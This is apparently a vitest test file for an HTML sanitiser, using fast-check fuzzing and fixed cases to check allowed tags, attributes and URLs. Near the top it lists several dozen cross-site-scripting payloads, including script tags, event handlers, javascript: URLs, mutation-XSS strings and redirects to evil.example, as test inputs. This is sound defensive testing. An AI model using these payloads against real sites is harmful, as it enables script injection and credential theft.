import fc from "fast-check";
import type { Nodes } from "hast";
import { fromHtml } from "hast-util-from-html";
import { describe, expect, it } from "vitest";
import { histories } from "../../../tests/support/histories.ts";
import { testScope } from "../../testing/platform.ts";
import { sanitiseHtml } from "./sanitise.ts";

const scope = testScope({ platform: { sandboxOrigin: "http://localhost:8789" } });
const clean = (html: string) => sanitiseHtml(html, scope);

/** The elements that a browser would create, with their properties. */
function elements(html: string) {
  const found: { tag: string; properties: Record<string, unknown> }[] = [];
  const walk = (node: Nodes) => {
    if (node.type === "element") found.push({ tag: node.tagName, properties: node.properties });
    if ("children" in node) node.children.forEach(walk);
  };
  walk(fromHtml(html, { fragment: true }));
  return found;
}

const harmlessTags =
  /^(p|br|hr|div|span|blockquote|pre|code|su[bp]|small|b|strong|i|em|u|s|del|ins|mark|h[2-6]|[uo]l|li|d[ldt]|table|caption|t(head|body|foot|r|h|d)|a|img)$/;

const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://cdn.example/a.png' onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/\\evil.example'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='data:text/html,x'></object><embed src=x>",
  "<form action='https://evil.example'><input name=password><button>ok</button></form>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
  "<div id=config class=modal name=x>clobber</div>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<xss onfocus=alert(1) tabindex=1 autofocus>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<p>unclosed <b><a href='https://ok.example' onclick=alert(1)>",
];

/** Valid and broken markup, from which random notices are combined. */
const pieces = [
  ...payloads,
  ..."<p> <div> <b> <a> <ul> <li> <dl> <dt> <dd> <table> <tr> <td> <th> <tbody> <caption> <h2>".split(
    " ",
  ),
  ..."</p> </div> </b> </a> </ul> </li> </dl> </table> </tr> </td> </tbody> </h2> </x> </".split(
    " ",
  ),
  ..."<svg> </svg> <math> <mtext> <style> </style> <title> </title> <textarea> <select> <form>".split(
    " ",
  ),
  ..."<template> <noscript> <plaintext> <frameset> <body> <html> <button> <object> </object>".split(
    " ",
  ),
  ...[
    "<a href=",
    "<img src='/a.png' ",
    'title="',
    "alt='",
    "onclick=x",
    ">",
    "<",
    "&lt;",
    "&amp;#60;",
    "&",
    "\u0000",
    "]]>",
  ],
  ...[
    "<!--",
    "-->",
    "<![CDATA[",
    "<?x",
    "<!doctype html>",
    "words",
    "<td colspan=2 lang=en>",
    "<br/>",
    "<hr>",
  ],
];
const soup = fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((all) => all.join(""));

function expectHarmless(html: string) {
  for (const { tag, properties } of elements(html)) {
    expect(tag).toMatch(harmlessTags);
    for (const [name, value] of Object.entries(properties)) {
      expect(name).toMatch(
        /^(href|src|alt|title|rel|target|loading|width|height|start|colSpan|rowSpan|scope|lang|dir)$/,
      );
      if (name === "href" || name === "src") {
        expect(String(value)).toMatch(
          /^(https:\/\/|http:\/\/localhost:8789\/|mailto:|tel:|\/(?![/\\]))/,
        );
      }
    }
  }
}

/** Places in a page where a notice may be, followed by a marker. */
const around = (html: string) =>
  `<table><tr><td><ul><li><div id="notice">${html}</div><i id="mark"></i></li></ul></td></tr></table>`;

/** The names of the ancestors of the element with this id. */
function pathTo(id: string, node: Nodes, path: string[] = []): string[] | null {
  if (node.type === "element" && node.properties.id === id) return path;
  const here = node.type === "element" ? [...path, node.tagName] : path;
  const children = "children" in node ? node.children : [];
  return children.map((child) => pathTo(id, child, here)).find(Boolean) ?? null;
}

describe("sanitiseHtml", () => {
  it("removes everything active from random input, and keeps elements inside the notice", () => {
    fc.assert(
      fc.property(soup, (html) => {
        const out = clean(html);
        expectHarmless(out);
        expect(clean(out)).toBe(out);
        const page = fromHtml(around(out), { fragment: true });
        expect(pathTo("mark", page)).toEqual(["table", "tbody", "tr", "td", "ul", "li"]);
      }),
      { numRuns: histories(3000) },
    );
  });

  it.each([
    ["<p>a<p>b", "<p>a</p><p>b</p>"],
    ["<ul><li>a<li>b</ul>c", "<ul><li>a</li><li>b</li></ul>c"],
    ["<li>a<li>b", "<div>a</div><div>b</div>"],
    [
      "<table><tr><td>a<td>b<tr><td>c</table>d",
      "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>d",
    ],
    ["<td>a</td>", "a"],
    ["a < b & c &amp; d&nbsp;&euro; &#8364;", "a &lt; b &amp; c &amp; d&nbsp;&euro; &#8364;"],
    ["<font color=red><center>a</center></font>", "a"],
    ["<b><i>a</b>b</i>", "<b><i>a</i></b>b"],
    ["<P CLASS=x>a<BR/>b</P>", "<p>a<br>b</p>"],
    ['<a href="/x?a=1&amp;b=2&amp;copy=3">a</a>', '<a href="/x?a=1&amp;b=2&amp;copy=3">a</a>'],
    ["<a href='/x?a=1&b=2'>a<a href=/y>b", '<a href="/x?a=1&amp;b=2">a</a><a href="/y">b</a>'],
    ["<object><object>a</object>b</object>c", "c"],
    ["<textarea><b>a</textarea>b", "&lt;b&gt;ab"],
  ])("reads %s as a browser would", (html, out) => expect(clean(html)).toBe(out));

  it.each(payloads)("removes everything active from %s", (payload) => {
    expectHarmless(clean(payload));
  });

  it("keeps the elements of formatted text", () => {
    const html =
      "<h2>Rules</h2><ul><li><b>One</b></li></ul><table><tbody><tr><td>2</td></tr></tbody></table>";
    expect(clean(html)).toBe(html);
  });

  it("opens external links in a new tab, and keeps paths and contacts", () => {
    expect(clean('<a href="https://ok.example/x">a</a>')).toBe(
      '<a href="https://ok.example/x" rel="noopener noreferrer nofollow" target="_blank">a</a>',
    );
    expect(clean('<a href="/help#faq">a</a>')).toBe('<a href="/help#faq">a</a>');
    expect(clean('<a href="mailto:a@b.example">a</a>')).toBe('<a href="mailto:a@b.example">a</a>');
  });

  it("A70 joins pictures to the image host, and drops the others", () => {
    expect(clean('<img src="/media/a.svg" alt="A">')).toContain(
      'src="http://localhost:8789/media/a.svg"',
    );
    expect(clean('<img src="http://elsewhere.example/a.svg">')).toBe("");
  });

  it("does not change when sanitised twice", () => {
    for (const payload of payloads) expect(clean(clean(payload))).toBe(clean(payload));
  });

  it("keeps pictures of the brand's image hosts only", () => {
    const brand = {
      ...scope.brand,
      hosts: { ...scope.brand.hosts, images: ["https://img.brand.example"] },
    };
    const own = { ...scope, brand };
    for (const src of ["https://img.brand.example/a.png", "/a.png"]) {
      expect(sanitiseHtml(`<img src="${src}" alt="">`, own)).toContain(
        "https://img.brand.example/a.png",
      );
    }
    for (const src of [
      "https://elsewhere.example/a.png",
      "https://img.brand.example.evil.example/a",
    ]) {
      expect(sanitiseHtml(`<p>x<img src="${src}"></p>`, own)).toBe("<p>x</p>");
    }
  });

  it.each([
    ["nested tags", `${"<div>".repeat(40_000)}deep`],
    ["end tags without a start", `${"<div></x>".repeat(15_000)}deep`],
    ["end tags in comments", `${"<div><!--</div>-->".repeat(900)}deep`],
    ["many tags", `${"<b><i></b></i>".repeat(9000)}deep`],
    ["tags without an end", `${"<".repeat(199_000)}`],
    ["a million characters", "<p>deep".repeat(150_000)],
  ])("%s come to an end and break nothing", { timeout: 20_000 }, (_name, html) => {
    const out = clean(html);
    expect(out).not.toMatch(/<script|on\w+=/);
    expect(clean(html)).toBe(out);
  });

  it("keeps a long notice whose paragraphs are never closed", () => {
    expect(clean("<p>a<li>b".repeat(200))).toContain("<p>a");
  });
});
